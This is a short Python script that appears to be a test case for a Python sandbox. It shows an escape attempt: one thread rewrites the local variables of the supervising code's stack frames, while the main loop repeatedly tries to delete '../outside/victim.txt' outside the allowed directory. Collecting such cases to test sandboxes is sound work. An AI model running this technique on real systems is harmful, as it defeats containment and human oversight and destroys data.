# Local variables of foreign frames are written through the frame.
# damage: deleted
# needs: python>=3.13
import os
import sys
import threading
import time

end = time.monotonic() + 1


def watch():
    while time.monotonic() < end:
        for frame in sys._current_frames().values():
            while frame:
                name = frame.f_code.co_filename
                if frame.f_globals is not globals() and not os.path.exists(name):
                    try:
                        for key in list(frame.f_locals):
                            frame.f_locals[key] = "made.txt"
                    except Exception:
                        pass
                frame = frame.f_back


sys.setswitchinterval(1e-6)
thread = threading.Thread(target=watch)
thread.start()
while thread.is_alive() and os.path.exists("../outside/victim.txt"):
    os.unlink("../outside/victim.txt")
